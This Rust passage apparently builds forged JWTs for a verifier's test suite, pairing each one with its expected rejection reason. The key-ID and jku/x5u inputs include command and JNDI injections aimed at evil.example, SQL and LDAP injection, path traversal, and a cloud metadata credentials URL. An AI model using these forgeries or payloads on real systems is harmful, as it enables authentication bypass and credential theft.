//! Families of tokens that are not to be accepted, each made up member by member, with the reason that has to come of each.

use serde_json::{Value, json};

use super::forge::{
    ALGORITHMS, AUDIENCE, Forge, ISSUER, ORDER_256, ORDER_384, Pair, SECOND, b64, header, hex, hmac, minus, plus_little_endian,
};

/// What has to come of a token that is right, however it looks.
pub const OK: &str = "ok";

/// What has to come of one that is another user's, or nobody's: it is verified, and there is no row for it.
pub const SOMEBODY_ELSE: &str = "somebody else";

/// One token.
pub struct Forged {
    pub what: String,
    pub token: String,
    /// The reason, or [`OK`], or [`SOMEBODY_ELSE`].
    pub comes_to: &'static str,
}

/// Tokens of one kind.
pub struct Family {
    pub name: &'static str,
    pub make: fn(&Forge) -> Vec<Forged>,
}

pub const FAMILIES: [Family; 13] = [
    Family { name: "algorithms: every name that is registered, and odd spellings", make: algorithms },
    Family { name: "a public key, in each of its encodings, as the secret of a MAC", make: public_keys_as_secrets },
    Family { name: "one algorithm and key under the name of another", make: confusion },
    Family { name: "signatures: zeros, parts, other encodings, other numbers", make: signatures },
    Family { name: "keys that the token brings or points at, and extensions", make: embedded_keys },
    Family { name: "key ids: paths, addresses, queries, look-alikes, other types", make: key_ids },
    Family { name: "odd JSON, in header and claims", make: odd_json },
    Family { name: "claims of a wrong type, or none", make: wrong_types },
    Family { name: "odd base64, in each part", make: odd_base64 },
    Family { name: "odd Unicode in subject, issuer and audience", make: odd_unicode },
    Family { name: "sizes and shapes", make: sizes },
    Family { name: "times", make: times },
    Family { name: "issuers: each with the other's keys, and names that are nearly one", make: issuers },
];

fn forged(what: impl Into<String>, token: String, comes_to: &'static str) -> Forged {
    Forged { what: what.into(), token, comes_to }
}

/// A text as a JSON string.
fn quoted(text: &str) -> String {
    Value::from(text).to_string()
}

/// The names of the registry "JSON Web Signature and Encryption Algorithms", those that are verified left out.
const OTHER_ALGORITHMS: [&str; 56] = [
    "none",
    "HS256",
    "HS384",
    "HS512",
    "RS384",
    "RS512",
    "ES512",
    "PS384",
    "PS512",
    "ES256K",
    "Ed25519",
    "Ed448",
    "ESB256",
    "ESB320",
    "ESB384",
    "ESB512",
    "ML-DSA-44",
    "ML-DSA-65",
    "ML-DSA-87",
    "RS1",
    "HS1",
    "RSA1_5",
    "RSA-OAEP",
    "RSA-OAEP-256",
    "RSA-OAEP-384",
    "RSA-OAEP-512",
    "A128KW",
    "A192KW",
    "A256KW",
    "dir",
    "ECDH-ES",
    "ECDH-ES+A128KW",
    "ECDH-ES+A192KW",
    "ECDH-ES+A256KW",
    "A128GCMKW",
    "A192GCMKW",
    "A256GCMKW",
    "PBES2-HS256+A128KW",
    "PBES2-HS384+A192KW",
    "PBES2-HS512+A256KW",
    "A128CBC-HS256",
    "A192CBC-HS384",
    "A256CBC-HS512",
    "A128GCM",
    "A192GCM",
    "A256GCM",
    "A128CBC",
    "A192CBC",
    "A256CBC",
    "A128CTR",
    "A192CTR",
    "A256CTR",
    "HS256/64",
    "SHA-256",
    "EdDSA448",
    "ES256KR",
];

fn algorithms(forge: &Forge) -> Vec<Forged> {
    let mut all = Vec::new();
    let mut add = |name: &str, comes_to| {
        let header = format!(r#"{{"alg":{},"kid":"k-p256"}}"#, quoted(name));
        all.push(forged(format!("alg {name:?}"), forge.headed(header), comes_to));
    };
    for name in OTHER_ALGORITHMS {
        add(name, "token.algorithm");
    }
    // "none" in each of its cases, and every name that is verified in others.
    for bits in 1..16_u8 {
        let cased = "none".char_indices().map(|(at, c)| if bits >> at & 1 == 1 { c.to_ascii_uppercase() } else { c });
        add(&cased.collect::<String>(), "token.algorithm");
    }
    for name in ALGORITHMS.into_iter().chain(["none"]) {
        for odd in [
            name.to_lowercase(),
            format!("{name} "),
            format!(" {name}"),
            format!("{name}\0"),
            format!("{name}\n"),
            format!("{name}\u{200b}"),
            format!("{name}."),
            format!("\"{name}\""),
            format!("{name},RS256"),
            name.chars().rev().collect(),
            name.chars().map(|c| char::from_u32(u32::from(c) + 0xfee0).unwrap()).collect(),
            name.replace('S', "\u{405}"),
            name.replace('2', "\u{0662}"),
        ] {
            if odd != name {
                add(&odd, "token.algorithm");
            }
        }
    }
    add("", "token.algorithm");
    for odd in ["null", "true", "0", "256", "-7", "[]", "[\"ES256\"]", "{}", "{\"ES256\":true}", "[\"none\",\"ES256\"]"] {
        let header = format!(r#"{{"alg":{odd},"kid":"k-p256"}}"#);
        all.push(forged(format!("alg {odd}"), forge.headed(header), "token.header"));
    }
    all.push(forged("no alg", forge.headed(r#"{"kid":"k-p256"}"#), "token.algorithm"));
    for name in ["Alg", "ALG", "algorithm", "alg ", "\u{0430}lg", "enc"] {
        let header = format!(r#"{{"{name}":"ES256","kid":"k-p256"}}"#);
        all.push(forged(format!("{name:?} for alg"), forge.headed(header), "token.algorithm"));
    }
    // Without a signature, and with somebody's.
    for name in ["none", "None", "NONE", "HS256", "ES256", "RS256"] {
        let input = format!("{}.{}", b64(header(name, "k-p256")), b64(forge.good().json()));
        all.push(forged(format!("{name}, no signature"), format!("{input}."), "token.malformed"));
        all.push(forged(format!("{name}, no third part"), input, "token.malformed"));
    }
    let escaped = forge.headed(r#"{"\u0061lg":"\u0045S256","kid":"k-p256"}"#);
    all.push(forged("the right one, written with escapes", escaped, OK));
    all
}

fn public_keys_as_secrets(forge: &Forge) -> Vec<Forged> {
    let mut all = Vec::new();
    let claims = b64(forge.good().json());
    for (kid, pair, algorithms) in forge.keys() {
        for (encoding, secret) in pair.encodings() {
            for mac in ["HS256", "HS384", "HS512"] {
                let input = format!("{}.{claims}", b64(header(mac, kid)));
                let token = format!("{input}.{}", b64(hmac(mac, &secret, input.as_bytes())));
                all.push(forged(format!("{mac} with {kid} as {encoding}"), token, "token.algorithm"));
            }
            // The same under the key's own algorithm.
            let input = format!("{}.{claims}", b64(header(algorithms[0], kid)));
            let token = format!("{input}.{}", b64(hmac("HS256", &secret, input.as_bytes())));
            all.push(forged(format!("a MAC for {} with {kid} as {encoding}", algorithms[0]), token, "token.signature"));
        }
    }
    all
}

fn confusion(forge: &Forge) -> Vec<Forged> {
    let claims = forge.good().json();
    let signers: [(&str, &Pair, &str); 10] = [
        ("k-rsa", &forge.rsa, "RS256"),
        ("k-rsa", &forge.rsa, "PS256"),
        ("k-rs256", &forge.rs256, "RS256"),
        ("k-rs256", &forge.rs256, "PS256"),
        ("k-p256", &forge.p256, "ES256"),
        ("k-p384", &forge.p384, "ES384"),
        ("k-ed", &forge.ed, "EdDSA"),
        ("a stranger", &forge.stranger_rsa, "RS256"),
        ("a stranger", &forge.stranger_p256, "ES256"),
        ("a stranger", &forge.stranger_ed, "EdDSA"),
    ];
    let mut all = Vec::new();
    for (kid, _, fit) in forge.keys() {
        for said in ALGORITHMS {
            for (signer, pair, signed) in signers {
                let comes_to = match () {
                    () if !fit.contains(&said) => "token.key-algorithm",
                    () if signer == kid && signed == said => OK,
                    () => "token.signature",
                };
                let token = pair.token(signed, header(said, kid), &claims);
                all.push(forged(format!("{said} and {kid} said, signed by {signer} with {signed}"), token, comes_to));
            }
        }
    }
    all
}

fn signatures(forge: &Forge) -> Vec<Forged> {
    let mut all = Vec::new();
    for algorithm in ALGORITHMS {
        let good = forge.good_of(algorithm);
        let (input, signature) = good.rsplit_once('.').unwrap();
        let bytes = base64_decode(signature);
        let mut add = |what: &str, bytes: &[u8], comes_to| {
            let comes_to = if bytes.is_empty() { "token.malformed" } else { comes_to };
            all.push(forged(format!("{algorithm}: {what}"), format!("{input}.{}", b64(bytes)), comes_to));
        };
        let size = bytes.len();
        let refused = "token.signature";
        for fill in [0, 1, 0x7f, 0x80, 0xff] {
            for length in [0, 1, 2, size / 2, size - 1, size, size + 1, 2 * size] {
                add(&format!("{length} times {fill}"), &vec![fill; length], refused);
            }
        }
        for cut in [1, 2, size / 4, size / 2, size - 1] {
            add(&format!("without the last {cut}"), &bytes[..size - cut], refused);
            add(&format!("without the first {cut}"), &bytes[cut..], refused);
        }
        for pad in [1, 2, 32] {
            add(&format!("{pad} zeros after"), &[&bytes[..], &vec![0; pad]].concat(), refused);
            add(&format!("{pad} zeros before"), &[&vec![0; pad], &bytes[..]].concat(), refused);
        }
        add("twice", &[&bytes[..], &bytes[..]].concat(), refused);
        add("reversed", &bytes.iter().rev().copied().collect::<Vec<_>>(), refused);
        add("as text", signature.as_bytes(), refused);
        add("as hexadecimal", bytes.iter().map(|b| format!("{b:02x}")).collect::<String>().as_bytes(), refused);
        let one = |at: usize| (0..size).map(|i| u8::from(i == at)).collect::<Vec<_>>();
        add("the number one", &one(size - 1), refused);
        add("the number one, from the other end", &one(0), refused);
        let (first, second) = bytes.split_at(size / 2);
        add("its halves changed round", &[second, first].concat(), refused);
        match algorithm {
            "ES256" | "ES384" => {
                let order = hex(if algorithm == "ES256" { ORDER_256 } else { ORDER_384 });
                let zero = vec![0; size / 2];
                for (what, r, s) in [
                    ("(r, 0)", first, &zero[..]),
                    ("(0, s)", &zero[..], second),
                    ("(n, n)", &order[..], &order[..]),
                    ("(r, n)", first, &order[..]),
                    ("(n, s)", &order[..], second),
                    ("(r, r)", first, first),
                    ("(n - r, s)", &minus(&order, first)[..], second),
                ] {
                    add(what, &[r, s].concat(), refused);
                }
                add("in DER", &der(first, second), refused);
                add("(0, 0) in DER", &[0x30, 6, 2, 1, 0, 2, 1, 0], refused);
                // ECDSA has two signatures for each. Nothing goes by the text of a token: a used one is known by its `jti`.
                add("(r, n - s), which ECDSA has as well", &[first, &minus(&order, second)].concat(), OK);
            }
            "EdDSA" => {
                // The order of the group, little-endian.
                let order = hex("edd3f55c1a631258d69cf7a2def9de1400000000000000000000000000000010");
                if let Some(more) = plus_little_endian(second, &order) {
                    add("s + the order", &[first, &more].concat(), refused);
                }
                for point in super::keys::SMALL_ORDER {
                    add(&format!("R of small order {}", &point[..4]), &[&hex(point), second].concat(), refused);
                    add(&format!("R of small order {} and 0", &point[..4]), &[&hex(point)[..], &[0; 32]].concat(), refused);
                }
            }
            _ => {
                let Pair::Rsa(_) = forge.key_of(algorithm).1 else { unreachable!() };
                let modulus = base64_decode(forge.key_of(algorithm).1.jwk("k", &json!({}))["n"].as_str().unwrap());
                add("n - s", &minus(&modulus, &bytes), refused);
                add("n", &modulus, refused);
                add("n - 1", &minus(&modulus, &one(size - 1)), refused);
                // As if there were no key: what PKCS #1 makes of the digest.
                let mut padded = vec![0xff; size];
                padded[..2].copy_from_slice(&[0, 1]);
                padded[size - 33] = 0;
                add("the padding alone", &padded, refused);
            }
        }
        // Of another token of the same issuer, whole.
        let other = forge.key_of(algorithm).1.token(algorithm, header(algorithm, "k"), forge.good().with("sub", "\"x\"").json());
        add("of another token", &base64_decode(other.rsplit_once('.').unwrap().1), refused);
    }
    all
}

fn base64_decode(text: &str) -> Vec<u8> {
    use base64::Engine as _;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(text).unwrap()
}

/// A signature as X9.62 writes it: two integers in a sequence.
fn der(r: &[u8], s: &[u8]) -> Vec<u8> {
    let integer = |number: &[u8]| {
        let number: Vec<u8> = number.iter().copied().skip_while(|b| *b == 0).collect();
        let sign = if number[0] & 0x80 == 0 { vec![] } else { vec![0] };
        [vec![2, u8::try_from(number.len() + sign.len()).unwrap()], sign, number].concat()
    };
    let body = [integer(r), integer(s)].concat();
    [vec![0x30, u8::try_from(body.len()).unwrap()], body].concat()
}

fn embedded_keys(forge: &Forge) -> Vec<Forged> {
    let own = forge.stranger_p256.jwk("k-p256", &json!({"alg": "ES256", "use": "sig"}));
    let claims = forge.good().json();
    // What a forger signs with the key that the token brings.
    let sign = |header: String| forge.stranger_p256.token("ES256", header, &claims);
    let mut all = Vec::new();
    let address = forge.trap.as_str();
    let values = |name: &str| match name {
        "jwk" => vec![own.to_string(), json!({"keys": [own]}).to_string(), quoted(&own.to_string())],
        "jku" | "x5u" => [
            format!("{address}/jwks"),
            format!("{address}/.well-known/jwks.json#"),
            format!("{ISSUER}@{}", address.trim_start_matches("http://")),
            format!("{ISSUER}/../keys"),
            "file:///proc/self/environ".to_owned(),
            "data:application/json,{}".to_owned(),
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/".to_owned(),
            "//idp.example/keys".to_owned(),
        ]
        .iter()
        .map(|url| quoted(url))
        .collect(),
        _ => vec![json!([b64(forge.stranger_p256.encodings()[6].1.clone())]).to_string(), json!(["MIIB", "MIIC"]).to_string()],
    };
    for name in ["jwk", "jku", "x5u", "x5c"] {
        for value in values(name).into_iter().chain(["null", "\"\"", "[]", "{}", "0", "false"].map(str::to_owned)) {
            for kid in ["\"kid\":\"k-p256\",", "\"kid\":\"mine\",", ""] {
                let token = sign(format!(r#"{{"alg":"ES256",{kid}"{name}":{value}}}"#));
                all.push(forged(format!("{name}: {value} with {kid}"), token, "token.embedded-key"));
            }
        }
        let escaped = format!("\\u{:04x}{}", name.as_bytes()[0], &name[1..]);
        all.push(forged(
            format!("{name}, written with an escape"),
            sign(format!(r#"{{"alg":"ES256","kid":"k-p256","{escaped}":{own}}}"#)),
            "token.embedded-key",
        ));
        let twice = sign(format!(r#"{{"alg":"ES256","kid":"k-p256","{name}":{own},"{name}":{own}}}"#));
        all.push(forged(format!("{name} twice"), twice, "token.header"));
        // Even where the issuer has signed it.
        let header = format!(r#"{{"alg":"ES256","kid":"k-p256","{name}":{own}}}"#);
        all.push(forged(format!("{name}, signed by the issuer"), forge.headed(header), "token.embedded-key"));
        for other in [name.to_uppercase(), format!("{name} "), format!("\u{200b}{name}")] {
            let token = sign(format!(r#"{{"alg":"ES256","kid":"k-p256","{other}":{own}}}"#));
            all.push(forged(format!("{other:?}, which is nothing"), token, "token.signature"));
        }
    }
    for name in ["x5t", "x5t#S256", "epk", "apu", "url", "nonce", "ppt", "svt", "iss", "trust_chain"] {
        for value in [own.to_string(), quoted(&format!("{address}/jwks"))] {
            let token = sign(format!(r#"{{"alg":"ES256","kid":"k-p256","{name}":{value}}}"#));
            all.push(forged(format!("{name}: {value}, which is not looked at"), token, "token.signature"));
        }
    }
    for (members, reason) in [
        (r#""crit":["jwk"]"#, "token.critical"),
        (r#""crit":["exp"],"exp":1"#, "token.critical"),
        (r#""crit":[]"#, "token.critical"),
        (r#""crit":"b64""#, "token.critical"),
        (r#""b64":false"#, "token.critical"),
        (r#""b64":true"#, "token.critical"),
        (r#""b64":false,"crit":["b64"]"#, "token.critical"),
        (r#""zip":"DEF""#, "token.compressed"),
        (r#""zip":null"#, "token.compressed"),
        (r#""cty":"JWT""#, "token.nested"),
        (r#""cty":"jwt""#, "token.nested"),
        (r#""cty":"application/JWT""#, "token.nested"),
        (r#""cty":"APPLICATION/jwt""#, "token.nested"),
        (r#""cty":null"#, "token.header"),
        (r#""typ":"JOSE+JSON""#, "token.type"),
        (r#""typ":"logout+jwt""#, "token.type"),
        (r#""typ":"dpop+jwt""#, "token.type"),
        (r#""typ":"secevent+jwt""#, "token.type"),
        (r#""typ":"oauth-authz-req+jwt""#, "token.type"),
        (r#""typ":"JWT\u0000""#, "token.type"),
        (r#""typ":[]"#, "token.header"),
    ] {
        let header = format!(r#"{{"alg":"ES256","kid":"k-p256",{members}}}"#);
        all.push(forged(members, forge.headed(header), reason));
    }
    all
}

fn key_ids(forge: &Forge) -> Vec<Forged> {
    let claims = forge.good().json();
    let sign = |kid: &str| forge.stranger_p256.token("ES256", format!(r#"{{"alg":"ES256","kid":{kid}}}"#), &claims);
    let unknown = [
        forge.trap.as_str(),
        "../../../../dev/null",
        "/dev/null",
        "/proc/self/environ",
        "..\\..\\windows\\win.ini",
        "file:///dev/null",
        "C:\\keys\\k-p256",
        "k-p256/../k-p256",
        "./k-p256",
        "http://169.254.169.254/latest/meta-data/",
        "https://evil.example/keys#k-p256",
        "//evil.example/k-p256",
        "' OR '1'='1",
        "k-p256' --",
        "x' UNION SELECT 'secret' --",
        "k-p256\"; DROP TABLE keys; --",
        "*)(uid=*))(|(uid=*",
        "{\"$ne\":null}",
        "$(curl evil.example)",
        "`id`",
        "; id",
        "| id",
        "${jndi:ldap://evil.example/x}",
        "{{7*7}}",
        "%{(#a=1)}",
        "<script>alert(1)</script>",
        "\r\nSet-Cookie: x=y",
        "k-p256\n",
        "k-p256\0",
        "\0k-p256",
        "k-p256\0.pem",
        " k-p256",
        "k-p256 ",
        "\tk-p256",
        "K-P256",
        "k-P256",
        "k\u{2010}p256",
        "k\u{2011}p256",
        "k\u{ff0d}p256",
        "k\u{2212}p256",
        "\u{043a}-p256",
        "k-\u{0440}256",
        "\u{ff4b}-p256",
        "\u{1d458}-p256",
        "k-p\u{0662}56",
        "k-p\u{ff12}56",
        "k-p256\u{200b}",
        "k\u{200d}-p256",
        "\u{feff}k-p256",
        "\u{202e}652p-k",
        "k-p256\u{0301}",
        "k-p256\u{fe0f}",
        "k-p256\u{e0001}",
        "%6b-p256",
        "k%2dp256",
        "k+p256",
        "k-p256,k-rsa",
        "[\"k-p256\"]",
        "k-p25",
        "k-p2566",
        "mine",
        "0",
        "-1",
        "null",
        "undefined",
        "true",
        "JWKS",
        "JWKS#local",
        "SUBJECT#local#alice",
    ];
    let mut all: Vec<Forged> =
        unknown.into_iter().map(|kid| forged(format!("kid {kid:?}"), sign(&quoted(kid)), "token.key-unknown")).collect();
    for length in [254, 255] {
        all.push(forged(format!("{length} characters"), sign(&quoted(&"k".repeat(length))), "token.key-unknown"));
        all.push(forged(format!("{length} characters of four bytes"), sign(&quoted(&"\u{1d458}".repeat(length))), "token.key-unknown"));
    }
    for length in [256, 257, 1024, 8000] {
        all.push(forged(format!("{length} characters"), sign(&quoted(&"k".repeat(length))), "token.key-id"));
    }
    all.push(forged("empty", sign("\"\""), "token.key-id"));
    all.push(forged("none", forge.stranger_p256.token("ES256", r#"{"alg":"ES256"}"#, &claims), "token.key-id"));
    for odd in ["null", "0", "256", "1e3", "true", "[]", "[\"k-p256\"]", "{}", "{\"k-p256\":1}", "[[\"k-p256\"]]"] {
        all.push(forged(format!("kid {odd}"), sign(odd), "token.header"));
    }
    all.push(forged("the real one", sign("\"k-p256\""), "token.signature"));
    all.push(forged("the real one, written with escapes", sign(r#""\u006b-p256""#), "token.signature"));
    all.push(forged("two", forge.headed(r#"{"alg":"ES256","kid":"k-p256","kid":"mine"}"#), "token.header"));
    all.push(forged("two, one with an escape", forge.headed(r#"{"alg":"ES256","kid":"mine","k\u0069d":"k-p256"}"#), "token.header"));
    for name in ["Kid", "KID", "kid ", "k\u{0456}d", "keyid"] {
        let header = format!(r#"{{"alg":"ES256",{}:"k-p256"}}"#, quoted(name));
        all.push(forged(format!("{name:?} for kid"), forge.headed(header), "token.key-id"));
    }
    all
}

/// An object, and what can be wrong with it as JSON. `good` is one with at least one member, without nested objects.
pub fn broken_json(good: &str) -> Vec<(String, Vec<u8>)> {
    let body = &good[1..good.len() - 1];
    let mut all: Vec<(String, Vec<u8>)> = Vec::new();
    let mut add = |what: &str, document: Vec<u8>| all.push((what.to_owned(), document));
    // Each member twice: the same, another value, and one with its name written otherwise.
    let object: serde_json::Map<String, Value> = serde_json::from_str(good).unwrap();
    for (name, value) in &object {
        let escaped: String = name.encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect();
        for (what, again) in [("the same", value.clone()), ("another", json!("forged")), ("null", Value::Null)] {
            add(&format!("{name} twice, {what}"), format!("{{{body},\"{name}\":{again}}}").into_bytes());
            add(&format!("{name} twice, {what}, first"), format!("{{\"{name}\":{again},{body}}}").into_bytes());
            add(&format!("{name} twice, {what}, with escapes"), format!("{{{body},\"{escaped}\":{again}}}").into_bytes());
        }
    }
    for (what, extra) in [
        ("a member of a member twice", r#""x":{"a":1,"a":2}"#),
        ("a member deep down twice", r#""x":[[[{"a":1,"a":1}]]]"#),
        ("an empty name twice", r#""":1,"":2"#),
        ("NaN", r#""x":NaN"#),
        ("Infinity", r#""x":Infinity"#),
        ("-Infinity", r#""x":-Infinity"#),
        ("a number in hexadecimal", r#""x":0x10"#),
        ("a number in octal", r#""x":010"#),
        ("a plus sign", r#""x":+1"#),
        ("no digit before the point", r#""x":.5"#),
        ("no digit after the point", r#""x":5."#),
        ("no digit in the exponent", r#""x":1e"#),
        ("a number beyond all", r#""x":1e999"#),
        ("a number beyond all, negative", r#""x":-1e999"#),
        ("underscores", r#""x":1_000"#),
        ("a suffix", r#""x":1n"#),
        ("two minus signs", r#""x":--1"#),
        ("a lone surrogate", r#""x":"\ud800""#),
        ("a lone low surrogate", r#""x":"\udc00""#),
        ("surrogates changed round", r#""x":"\udc00\ud800""#),
        ("a lone surrogate in a name", r#""\ud800":1"#),
        ("an escape that is none", r#""x":"\q""#),
        ("an escape of two digits", r#""x":"\x41""#),
        ("an escape that ends early", r#""x":"\u12""#),
        ("single quotes", "'x':1"),
        ("single quotes for a value", "\"x\":'1'"),
        ("a name without quotes", "x:1"),
        ("a number for a name", "1:1"),
        ("null for a name", "null:1"),
        ("no colon", r#""x" 1"#),
        ("no value", r#""x":"#),
        ("two colons", r#""x"::1"#),
        ("an equals sign", r#""x"=1"#),
        ("a trailing comma", ""),
        ("two commas", ",\"x\":1"),
        ("a comment of a line", "\"x\":1 // y\n"),
        ("a comment", "/* y */\"x\":1"),
        ("a comment with a hash", "\"x\":1 # y\n"),
        ("a line end in a string", "\"x\":\"\n\""),
        ("a tab in a string", "\"x\":\"\t\""),
        ("NUL in a string", "\"x\":\"\0\""),
        ("NUL between", "\0\"x\":1"),
        ("a form feed between", "\u{c}\"x\":1"),
        ("a no-break space between", "\u{a0}\"x\":1"),
        ("undefined", r#""x":undefined"#),
        ("True", r#""x":True"#),
        ("NULL", r#""x":NULL"#),
        ("a call", r#""x":Date()"#),
        ("a template", "\"x\":`1`"),
        ("a list that is not closed", r#""x":[1"#),
        ("an object that is not closed", r#""x":{"a":1"#),
        ("a list with a trailing comma", r#""x":[1,]"#),
    ] {
        add(what, format!("{{{body},{extra}}}").into_bytes());
    }
    for deep in [33, 64, 127, 128, 129, 1000, 5000] {
        add(&format!("{deep} lists deep"), format!("{{{body},\"x\":{}{}}}", "[".repeat(deep), "]".repeat(deep)).into_bytes());
        add(&format!("{deep} lists that are not closed"), format!("{{{body},\"x\":{}", "[".repeat(deep)).into_bytes());
        add(&format!("{deep} objects that are not closed"), format!("{{{body},{}", "\"x\":{".repeat(deep.min(1500))).into_bytes());
    }
    let members: Vec<String> = (0..257).map(|n| format!("\"m{n}\":0")).collect();
    add("257 members more", format!("{{{body},{}}}", members.join(",")).into_bytes());
    for (what, before, after) in [
        ("text after", "", "x"),
        ("NUL after", "", "\0"),
        ("a comma after", "", ","),
        ("another object after", "", "{}"),
        ("itself after", "", good),
        ("a brace after", "", "}"),
        ("a line and more after", "", "\n{}"),
        ("a byte order mark", "\u{feff}", ""),
        ("a byte order mark after", "", "\u{feff}"),
        ("a prefix against inclusion", ")]}',\n", ""),
        ("while(1)", "while(1);", ""),
        ("a comment before", "/**/", ""),
        ("a call", "f(", ")"),
        ("a list around", "[", "]"),
        ("an object around", "{\"x\":", "}"),
        ("a record separator", "\u{1e}", "\n"),
        ("a name before", "\"x\":", ""),
        ("a comma before", ",", ""),
    ] {
        // An object around is an object: that is told by what it lacks.
        if what != "an object around" {
            add(what, format!("{before}{good}{after}").into_bytes());
        }
    }
    for cut in [1, 2, good.len() / 2, good.len() - 1] {
        add(&format!("without the last {cut}"), good.as_bytes()[..good.len() - cut].to_vec());
    }
    let utf16 = |to_bytes: fn(u16) -> [u8; 2]| good.encode_utf16().flat_map(to_bytes).collect::<Vec<u8>>();
    add("UTF-16, little-endian", utf16(u16::to_le_bytes));
    add("UTF-16, big-endian", utf16(u16::to_be_bytes));
    add("UTF-16 with a mark", [vec![0xff, 0xfe], utf16(u16::to_le_bytes)].concat());
    add("UTF-32", good.chars().flat_map(|c| u32::from(c).to_le_bytes()).collect());
    for (what, bytes) in [
        ("a byte of Latin-1", &b"\xfc"[..]),
        ("an overlong slash", b"\xc0\xaf"),
        ("an overlong NUL", b"\xc0\x80"),
        ("a surrogate in UTF-8", b"\xed\xa0\x80"),
        ("beyond Unicode", b"\xf4\x90\x80\x80"),
        ("half a character", b"\xc3"),
        ("a lone continuation", b"\x80"),
        ("0xff", b"\xff"),
    ] {
        add(what, [format!("{{{body},\"x\":\"").as_bytes(), bytes, b"\"}"].concat());
        add(&format!("{what} in a name"), [format!("{{{body},\"").as_bytes(), bytes, b"\":1}"].concat());
    }
    for other in ["null", "true", "0", "1.5", "\"x\"", "[]", "[{}]", " ", "\n", "{", "}", "x", "<html></html>", "alg: ES256", "\0"] {
        add(&format!("{other:?} alone"), other.as_bytes().to_vec());
    }
    add("a string that holds it", quoted(good).into_bytes());
    add("its base64", b64(good).into_bytes());
    all
}

fn odd_json(forge: &Forge) -> Vec<Forged> {
    let (head, claims) = (header("ES256", "k-p256"), forge.good().json());
    let mut all = Vec::new();
    for (what, document) in broken_json(&head) {
        all.push(forged(format!("header: {what}"), forge.headed(document), "token.header"));
    }
    for (what, document) in broken_json(&claims) {
        all.push(forged(format!("claims: {what}"), forge.signed(document), "token.claims"));
    }
    // What is odd and means what it means.
    let body = &claims[1..claims.len() - 1];
    for (what, document) in [
        ("white space", format!(" \t\r\n{{ {} }}\n", body.replace(':', " : ").replace("https : ", "https:").replace("api : ", "api:"))),
        ("names with escapes", claims.replace("\"sub\"", "\"\\u0073\\u0075b\"")),
        ("values with escapes", claims.replace("https://", "https:\\/\\/")),
        ("32 deep", format!("{{{body},\"x\":{}{}}}", "[".repeat(31), "]".repeat(31))),
        ("huge numbers elsewhere", format!("{{{body},\"x\":123456789012345678901234567890,\"y\":1e300}}")),
        ("names that differ in case", format!("{{{body},\"Sub\":\"x\",\"SUB\":\"y\",\"sub \":\"z\"}}")),
        ("the claims of another within", format!("{{{body},\"x\":{{\"sub\":\"bob\",\"iss\":\"{SECOND}\"}}}}")),
    ] {
        all.push(forged(format!("claims: {what}"), forge.signed(document), OK));
    }
    all
}

fn wrong_types(forge: &Forge) -> Vec<Forged> {
    let good = forge.good().with("nbf", (forge.now - 10).to_string()).with("jti", "\"t-1\"");
    let mut all = Vec::new();
    let types = [
        "null",
        "true",
        "false",
        "-1",
        "-0.5",
        "1e300",
        "18446744073709551616",
        "\"\"",
        "\"\\u0000\"",
        "\"\\n\"",
        "[]",
        "[null]",
        "[1]",
        "[true]",
        "[[]]",
        "[{}]",
        "{}",
        "{\"x\":1}",
    ];
    for (name, reason, missing) in [
        ("iss", "token.issuer", "token.issuer"),
        ("aud", "token.audience", "token.audience"),
        ("sub", "token.subject", "token.subject"),
        ("exp", "token.time", "token.expiry-missing"),
        ("nbf", "token.time", OK),
        ("iat", "token.time", OK),
        ("jti", "token.token-id", OK),
    ] {
        let right = match name {
            "iss" => quoted(ISSUER),
            "aud" => quoted(AUDIENCE),
            "sub" => quoted(&forge.subject),
            "jti" => quoted("t-1"),
            _ => (forge.now + 60).to_string(),
        };
        let wrapped = [format!("[[{right}]]"), format!("{{\"value\":{right}}}"), format!("[{right},null]"), format!("[{{\"x\":{right}}}]")];
        let as_text = (!right.starts_with('"')).then(|| quoted(&right));
        for value in types.map(str::to_owned).into_iter().chain(wrapped).chain(as_text) {
            all.push(forged(format!("{name}: {value}"), forge.signed(good.clone().with(name, value).json()), reason));
        }
        if name != "aud" {
            let list = forge.signed(good.clone().with(name, format!("[{right}]")).json());
            all.push(forged(format!("{name} as a list of one"), list, reason));
        }
        all.push(forged(format!("no {name}"), forge.signed(good.clone().without(name).json()), missing));
        let other_case = format!("{}{}", name[..1].to_uppercase(), &name[1..]);
        let token = forge.signed(good.clone().without(name).with(&other_case, right).json());
        all.push(forged(format!("{other_case} for {name}"), token, missing));
    }
    for name in ["jti", "sub"] {
        let reason = if name == "sub" { "token.subject" } else { "token.token-id" };
        for length in [256, 1021, 5000] {
            let token = forge.signed(good.clone().with(name, quoted(&"x".repeat(length))).json());
            all.push(forged(format!("{name} of {length} characters"), token, reason));
        }
    }
    for events in ["{\"http://schemas.openid.net/event/backchannel-logout\":{}}", "null", "[]"] {
        all.push(forged(format!("events: {events}"), forge.signed(good.clone().with("events", events).json()), "token.security-event"));
    }
    for cnf in ["{\"jkt\":\"0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I\"}", "{\"x5t#S256\":\"\"}", "null", "[]"] {
        all.push(forged(format!("cnf: {cnf}"), forge.signed(good.clone().with("cnf", cnf).json()), "token.sender-constrained"));
    }
    all
}

fn odd_base64(forge: &Forge) -> Vec<Forged> {
    // Of each length that base64 has, so that there are bits to set that are dropped.
    let mut good = Vec::new();
    for spaces in 0..3 {
        let head = format!("{}{}", header("RS256", "k-rsa"), " ".repeat(spaces));
        let claims = format!("{}{}", forge.good().json(), " ".repeat(spaces));
        good.push(forge.rsa.token("RS256", head, claims));
    }
    let mut all = Vec::new();
    for (of, token) in good.iter().enumerate() {
        let parts: Vec<&str> = token.split('.').collect();
        for (at, name) in ["header", "claims", "signature"].into_iter().enumerate() {
            let part = parts[at];
            let mut add = |what: &str, odd: String, reason| {
                let mut parts = parts.clone();
                parts[at] = &odd;
                all.push(forged(format!("{name} {of}: {what}"), parts.join("."), reason));
            };
            let malformed = "token.malformed";
            for pad in ["=", "==", "===", "%3D", "%3d%3d", "\u{ff1d}"] {
                add(&format!("{pad} after"), format!("{part}{pad}"), malformed);
            }
            for (what, odd) in [
                ("a line end", "\n"),
                ("CR LF", "\r\n"),
                ("a space", " "),
                ("a tab", "\t"),
                ("NUL", "\0"),
                ("a zero-width space", "\u{200b}"),
                ("a plus", "+"),
                ("a slash", "/"),
                ("a full-width A", "\u{ff21}"),
                ("an asterisk", "*"),
                ("a percent", "%41"),
                ("padding", "="),
                ("a comma", ","),
                ("a tilde", "~"),
            ] {
